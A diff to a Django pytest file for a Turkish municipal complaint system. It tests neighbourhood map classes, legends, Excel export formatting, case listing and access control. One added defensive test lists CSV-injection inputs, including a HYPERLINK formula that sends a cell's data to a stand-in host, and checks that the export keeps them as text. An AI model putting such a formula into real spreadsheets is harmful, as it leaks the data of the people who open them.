@@ -14,13 +14,25 @@ import pytest
 import shapely
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
+from django.utils import translation
 
 from kentmasa.cases import services
-from kentmasa.cases.models import Channel
+from kentmasa.cases.models import Case, Channel
 from kentmasa.directory.models import User
+from kentmasa.places.importer import import_features
 from kentmasa.places.models import Area
-from kentmasa.reports import neighbourhoods
-from kentmasa.reports.tests.conftest import SARIYAKUP, TURKOCAGI, ULUCAMII, nudge, place
+from kentmasa.reports import neighbourhoods, views_map
+from kentmasa.reports.tests.conftest import (
+    BAHCELIEVLER_SEYHAN,
+    BAHCELIEVLER_YUREGIR,
+    MAHALLE_IDS,
+    SARIYAKUP,
+    TURKOCAGI,
+    ULUCAMII,
+    _features,
+    nudge,
+    place,
+)
 
 AREAS = "/raporlar/harita/mahalleler"
 MARCH_18 = dt.datetime.fromisoformat("2026-03-18T10:00+03:00")
@@ -137,19 +149,19 @@ def resolve_in(make_case, actor, neighbourhood: str, days: int):
     return services.resolve(case, actor=actor, resolution="Yapıldı.", now=MARCH_18 + dt.timedelta(days=days))
 
 
-def test_classes_are_quantiles_and_the_legend_says_so(client, administrator, old_town):
+def test_few_distinct_values_are_a_class_each_and_the_legend_says_so(client, administrator, old_town):
     client.force_login(administrator)
 
     data = layer(client, "count")
 
-    # Counts 1, 1, 1, 2, 3 in five quantiles: breaks at 1 and 2, so three classes.
+    # Counts 1, 1, 1, 2, 3: three distinct values for five classes, so one class each.
     classes = {name: props["class"] for (_, name), props in by_name(data).items()}
     assert classes["Sarıyakup Mahallesi"] == 2 and classes["Türkocağı Mahallesi"] == 1
     assert classes["Ulucamii Mahallesi"] == 0
     assert [(entry["class"], entry["label"]) for entry in data["legend"]] == [
-        (0, "up to 1"),
-        (1, "1 – 2"),
-        (2, "over 2"),
+        (0, "1"),
+        (1, "2"),
+        (2, "3"),
         (None, "no data"),
     ]
     colours = {props["class"]: props["colour"] for props in by_name(data).values()}
@@ -158,6 +170,49 @@ def test_classes_are_quantiles_and_the_legend_says_so(client, administrator, old
         1: neighbourhoods.COLOURS[2],
         2: neighbourhoods.COLOURS[4],
     }
+
+
+@pytest.fixture
+def quiet_seyhan(adana):
+    """Twenty more Seyhan mahalles, none with a case: like the demo, where most mahalles have none."""
+    extra = [
+        feature
+        for feature in _features("mahalleler-adana.geojson")
+        if feature["properties"]["townId"] == 1 and str(feature["properties"]["id"]) not in MAHALLE_IDS
+    ][:20]
+    report = import_features(list(extra), source="test")
+    assert not report.skipped, report.skipped
+    return adana
+
+
+def test_one_case_and_seventeen_are_told_apart_among_many_mahalles_with_none(
+    client, administrator, quiet_seyhan, make_case
+):
+    """The demo's legend had two classes, "0 ve altı / 0 üzeri": quantiles of counts that are mostly 0."""
+    seyhan = "Seyhan"
+    for point, district, name, count in [
+        (SARIYAKUP, seyhan, "Sarıyakup Mh.", 17),
+        (TURKOCAGI, seyhan, "Türkocağı Mh.", 1),
+        (ULUCAMII, seyhan, "Ulucamii Mh.", 2),
+        (BAHCELIEVLER_SEYHAN, seyhan, "Bahçelievler Mh.", 4),
+        (BAHCELIEVLER_YUREGIR, "Yüreğir", "Bahçelievler Mh.", 6),
+    ]:
+        for _ in range(count):
+            make_case(location=place(point, district, name))
+    client.force_login(administrator)
+
+    response = client.get(AREAS, {"measure": "count", "zoom": 14}, HTTP_ACCEPT_LANGUAGE="tr")
+    data = response.json()
+
+    assert len(data["features"]) == 25
+    classes = {name: props["class"] for (_, name), props in by_name(data).items()}
+    assert classes["Türkocağı Mahallesi"] != classes["Sarıyakup Mahallesi"]
+    # Twenty without a case, then 1, 2, 4, 6 and 17: zero is a class of its own, the rest natural breaks.
+    assert [entry["label"] for entry in data["legend"]] == ["0", "1–2", "4", "6", "17", "veri yok"]
+    assert (classes["Türkocağı Mahallesi"], classes["Ulucamii Mahallesi"]) == (1, 1)
+    assert classes["Sarıyakup Mahallesi"] == 4
+    assert {props["class"] for props in by_name(data).values()} == {0, 1, 2, 3, 4}
+    assert len({props["colour"] for props in by_name(data).values()}) == 5
 
 
 def test_the_layer_follows_the_filters(client, administrator, old_town, parks):
@@ -252,6 +307,11 @@ def test_the_gazetteer_reads_the_ways_a_mahalle_is_written(adana):
     assert gazetteer.find("Kayseri", "Seyhan", "Sarıyakup Mh.") is None
 
 
+DEMO_LIKE = (
+    [0] * 780 + [1] * 30 + [2] * 12 + [3] * 8 + [4] * 3 + [5] * 4 + [7] * 2 + [8] * 3 + [12, 17, 17, 40]
+)
+
+
 @pytest.mark.parametrize(
     ("values", "breaks"),
     [
@@ -260,10 +320,36 @@ def test_the_gazetteer_reads_the_ways_a_mahalle_is_written(adana):
         ([1, 2, 3, 4, 5, 6, 7, 8, 9, 10], [2, 4, 6, 8]),
         ([0, 0, 0, 0, 9], [0]),
         ([1, 1, 1, 2, 3], [1, 2]),
+        # Two groups and three far values: the groups stay whole, the far values stand apart.
+        ([1, 1, 2, 2, 10, 11, 12, 50, 52, 100], [2, 12, 50, 52]),
+        # Most mahalles without a case: zero alone, then natural breaks over the rest.
+        (DEMO_LIKE, [0, 3, 8, 17]),
     ],
 )
-def test_quantile_breaks(values, breaks):
-    assert neighbourhoods.quantile_breaks(values) == breaks
+def test_natural_breaks(values, breaks):
+    assert neighbourhoods.class_breaks(values) == breaks
+
+
+def test_the_legend_names_each_class_by_its_smallest_and_largest_value():
+    breaks = neighbourhoods.class_breaks(DEMO_LIKE)
+    with translation.override("tr"):
+        labels = [entry["label"] for entry in neighbourhoods.legend("count", breaks, DEMO_LIKE)]
+        days = [1 / 24 * 5, 0.9, 2.0, 2.5, 6.0, 7.0, 30.0]
+        day_breaks = neighbourhoods.class_breaks(days, classes=3)
+        day_labels = [entry["label"] for entry in neighbourhoods.legend("median_days", day_breaks, days)]
+
+    assert labels == ["0", "1–3", "4–8", "12–17", "40", "veri yok"]
+    assert neighbourhoods.class_of(1, breaks) != neighbourhoods.class_of(17, breaks)
+    assert day_labels == ["5,0 saat – 2,5 gün", "6,0 gün – 7,0 gün", "30,0 gün", "veri yok"]
+
+
+def test_natural_breaks_of_many_distinct_values_are_values_of_the_data():
+    values = [round(1.001**index, 6) for index in range(20_000)]
+
+    breaks = neighbourhoods.class_breaks(values)
+
+    assert len(breaks) == 4 and breaks == sorted(set(breaks))
+    assert set(breaks) <= set(values)
 
 
 def test_percentiles_interpolate_between_ranks():
@@ -444,23 +530,25 @@ def test_the_export_is_the_table_behind_the_page(client, administrator, adana, s
     assert len(rows) == 1 + 7
     last = rows[-1]
     number = sms.tracking_number
+    # Times are kept to the minute, as the wall clock in Turkey showed them.
     assert last[:9] == (
         f"{number[:2]}-{number[2:-1]}-{number[-1]}",
-        dt.datetime(2026, 3, 30),
+        dt.datetime(2026, 3, 30, 9, 0),
         "SMS ile çukur",
         "Yol çökmesi / çukur",
         "Fen İşleri Müdürlüğü",
         "SMS",
         "Alındı",
-        dt.datetime(2026, 4, 20),
+        dt.datetime(2026, 4, 20, 17, 30),  # the end of the fifteenth working day
         None,
     )
     assert last[9:12] == (None, None, "Evet")
     assert last[13:] == (pytest.approx(SARIYAKUP[0] - 60 / 111_320, abs=1e-6), pytest.approx(SARIYAKUP[1]))
     answered = next(row for row in rows if row[2] == "Köşede çukur (10)")
-    assert answered[8:12] == (dt.datetime(2026, 3, 28), 10.0, "Evet", "Hayır")
-    # Dates are date cells shown the Turkish way.
-    assert sheet["B2"].number_format == "dd.mm.yyyy"
+    assert answered[8:12] == (dt.datetime(2026, 3, 28, 10, 0), 10.0, "Evet", "Hayır")
+    # Times are date-time cells shown the Turkish way, a number Excel sorts and filters as a date.
+    assert (sheet["B2"].data_type, sheet["B2"].number_format) == ("d", "dd.mm.yyyy hh:mm")
+    assert sheet["B2"].is_date
     summary = {row[0]: row[1] for row in book["Özet"].iter_rows(values_only=True)}
     assert summary["Mahalle"] == "Sarıyakup Mahallesi" and summary["İlçe"] == "Seyhan"
     assert summary["Başvuru"] == 7 and summary["Ortanca Çözüm Süresi (gün)"] == 4.0
@@ -488,3 +576,124 @@ def test_an_export_with_bad_filters_is_refused(client, administrator, adana):
     )
 
     assert response.status_code == 400
+
+
+# Text a citizen typed that a spreadsheet would otherwise run (OWASP "CSV injection"): each stays text.
+FORMULAS = [
+    '=HYPERLINK("http://kotu.example/?veri="&A1,"Tıklayın")',
+    "+90 532 111 22 33",
+    "-2+3",
+    "@SUM(A1:A9)",
+]
+
+
+def test_citizen_text_is_written_as_text_never_as_a_formula(client, administrator, adana, make_case):
+    seyhan = "Seyhan"
+    for text in FORMULAS:
+        make_case(subject=text, location=place(SARIYAKUP, seyhan, "Sarıyakup Mh.", street=text))
+    # Intake strips leading blanks; a record from before (or an import) may still start with a tab.
+    tabbed = make_case(subject="Sekmeli", location=place(SARIYAKUP, seyhan, "Sarıyakup Mh."))
+    Case.objects.filter(pk=tabbed.pk).update(street="\t=1+1")
+    client.force_login(administrator)
+
+    response = client.get(f"/raporlar/mahalle/{adana['sariyakup'].pk}/disari.xlsx")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Başvurular"]
+    subjects = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
+    assert set(subjects) == {*FORMULAS, "Sekmeli"}
+    for text in FORMULAS:
+        subject, street = subjects[text][2], subjects[text][12]
+        assert (subject.value, subject.data_type) == (text, "s")
+        assert (street.value, street.data_type) == (text, "s")
+    assert (subjects["Sekmeli"][12].value, subjects["Sekmeli"][12].data_type) == ("\t=1+1", "s")
+
+
+def test_text_xml_cannot_carry_does_not_break_the_export(client, administrator, adana, make_case):
+    make_case(subject="Işık\x1b yanmıyor\x07", location=place(SARIYAKUP, "Seyhan", "Sarıyakup Mh."))
+    client.force_login(administrator)
+
+    response = client.get(f"/raporlar/mahalle/{adana['sariyakup'].pk}/disari.xlsx")
+
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Başvurular"]
+    assert sheet["C2"].value == "Işık yanmıyor"
+
+
+# -- the mahalle's cases, listed ----------------------------------------------------------------------------
+
+
+def listed(response) -> list[str]:
+    return [case.tracking_number for case in response.context["listed"]]
+
+
+def test_the_page_lists_its_cases_latest_first_each_linked(client, administrator, adana, sariyakup_month):
+    client.force_login(administrator)
+
+    response = page(client, adana["sariyakup"], **MARCH)
+
+    # March's seven, the latest (the SMS case of 30 March) first.
+    subjects = [case.subject for case in response.context["listed"]]
+    assert subjects[0] == "SMS ile çukur" and len(subjects) == 7
+    html = response.content.decode()
+    assert "Cases 1–7 of 7, the latest first." in html
+    for case in response.context["listed"]:
+        assert f'href="/vaka/{case.tracking_number}/"' in html
+    # The small map shows the listed cases' points, with their tracking number and subject.
+    points = response.context["map_config"]["points"]
+    assert len(points) == 7
+    sms = sariyakup_month
+    number = f"{sms.tracking_number[:2]}-{sms.tracking_number[2:-1]}-{sms.tracking_number[-1]}"
+    assert points[0] == {
+        "lat": float(sms.latitude),
+        "lon": float(sms.longitude),
+        "label": f"{number} · SMS ile çukur",
+        "overdue": True,  # due 20 April 2026
+    }
+
+
+def test_the_list_is_paged(client, administrator, adana, sariyakup_month, monkeypatch):
+    monkeypatch.setattr(views_map, "MAHALLE_CASES_PER_PAGE", 3)
+    client.force_login(administrator)
+    everything = listed(page(client, adana["sariyakup"], **MARCH, page=1)) + listed(
+        page(client, adana["sariyakup"], **MARCH, page=2)
+    )
+
+    last = page(client, adana["sariyakup"], **MARCH, page=3)
+
+    assert len(everything) == 6 and len(listed(last)) == 1
+    assert len(last.context["map_config"]["points"]) == 1  # the map follows the list
+    html = last.content.decode()
+    assert "Page 3 of 3" in html
+    assert 'href="?received_from=2026-03-01&amp;received_to=2026-03-31&amp;page=2#cases-heading"' in html
+    # A page that is not a number or is past the end is the first or the last, never an error.
+    assert listed(page(client, adana["sariyakup"], **MARCH, page="x")) == everything[:3]
+    assert listed(page(client, adana["sariyakup"], **MARCH, page=99)) == listed(last)
+
+
+def test_unit_staff_see_and_reach_only_their_units_cases(
+    client, park_staff, adana, sariyakup_month, old_town
+):
+    client.force_login(park_staff)
+
+    response = page(client, adana["sariyakup"])
+
+    html = response.content.decode()
+    [park_case] = response.context["listed"]
+    assert park_case.subject == "Parkta kırık salıncak"
+    assert f'href="/vaka/{park_case.tracking_number}/"' in html
+    assert old_town["sariyakup_late"].tracking_number not in html
+    assert sariyakup_month.tracking_number not in html
+    assert len(response.context["map_config"]["points"]) == 1
+
+
+def test_staff_of_another_institution_see_no_case(
+    client, make_user, adana, sariyakup_month, other_institution
+):
+    stranger = make_user(User.Role.ADMINISTRATOR, "baska_yonetici", institution_=other_institution)
+    client.force_login(stranger)
+
+    response = page(client, adana["sariyakup"])
+
+    assert listed(response) == []
+    assert response.context["map_config"]["points"] == []
+    assert sariyakup_month.tracking_number not in response.content.decode()
